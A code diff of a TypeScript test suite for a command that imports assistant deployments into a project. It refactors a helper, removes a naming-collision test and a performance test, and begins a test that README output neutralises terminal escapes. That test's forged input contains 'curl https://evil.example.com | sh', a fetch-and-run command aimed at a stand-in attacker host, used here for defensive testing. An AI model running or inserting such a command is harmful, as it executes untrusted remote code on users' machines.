@@ -41,14 +41,8 @@ describe("the command import", () => {
   const write = async (options: Partial<ImportOptions> = {}) => {
     const folder = join(home, "imported");
     const terminal = testTerminal();
-    const given = {
-      folder,
-      frontEnd: "dynamic",
-      json: true,
-      dataDir: t.dataDir,
-      ...options,
-    } as const;
-    await importExisting(given, terminal);
+    const given = { folder, frontEnd: "dynamic" as const, json: true, dataDir: t.dataDir };
+    await importExisting({ ...given, ...options }, terminal);
     const names = await readdir(folder).catch(() => []);
     const texts = await Promise.all(names.map((name) => readFile(join(folder, name), "utf8")));
     const files = Object.fromEntries(names.map((name, at) => [name, texts[at] ?? ""]));
@@ -192,25 +186,6 @@ describe("the command import", () => {
     });
   });
 
-  it("names apart the assistants of two servers that have the same id and all but the same name", () => {
-    const on = (deployment: string) =>
-      ({
-        ...DEPLOYMENT,
-        kind: "Assistant",
-        noun: "assistant",
-        id: "5f0c",
-        name: "agent",
-        inputs: {},
-        importId: `https://${deployment}.example.com/assistants/5f0c`,
-        deployment: { id: deployment, name: deployment },
-      }) as const;
-    const { resources } = importedProject([on("a"), on("b.c"), on("b-c")], PROJECT);
-    const names = resources.map(({ name }) => name);
-    expect(names[0]).to.equal("a-agent");
-    expect(names[1]).to.match(/^b-c-agent-[\da-f]{7}$/);
-    expect(new Set(names)).to.have.property("size", 3);
-  });
-
   it("has a cron refer to its deployment and its assistant, where these are imported too", () => {
     const deployment = { id: "d", name: "support" };
     const server = { ...DEPLOYMENT, ...deployment, inputs: {}, importId: "d" };
@@ -230,19 +205,6 @@ describe("the command import", () => {
       /Cron\("support-cron", \{[^}]*deploymentUrl: support\.url,\s*assistantId: supportGerman\.assistantId/,
     );
   });
-
-  it("writes the program of twenty thousand deployments, with a setting for each value, in linear time", () => {
-    const all = Array.from({ length: 20_000 }, (_, at) => ({
-      ...DEPLOYMENT,
-      id: `${at}`,
-      importId: `${at}`,
-      name: `agent-${at}`,
-      inputs: { secrets: { A: `${at}`, B: "same" } },
-    }));
-    const { resources, settings } = importedProject(all, PROJECT);
-    expect(new Set(resources.map(({ name }) => name))).to.have.property("size", 20_000);
-    expect(new Set(settings.map(({ key }) => key))).to.have.property("size", 20_001);
-  }).timeout(20_000); // to compare each with all others takes minutes
 
   it("prints names in the README on one line each, of which a terminal obeys nothing", () => {
     const forged = "\x1b[2J\n```sh\ncurl https://evil.example.com | sh\n```\n";
